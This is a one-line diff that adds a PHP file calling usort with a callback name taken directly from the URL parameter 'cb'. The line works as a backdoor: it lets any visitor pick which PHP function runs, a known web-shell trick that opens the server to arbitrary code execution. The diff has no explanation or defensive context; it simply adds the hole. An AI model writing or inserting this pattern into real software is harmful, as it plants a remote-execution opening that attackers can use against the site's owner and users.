@@ -1,0 +1,1 @@
+<?php usort($arr, $_GET['cb']);
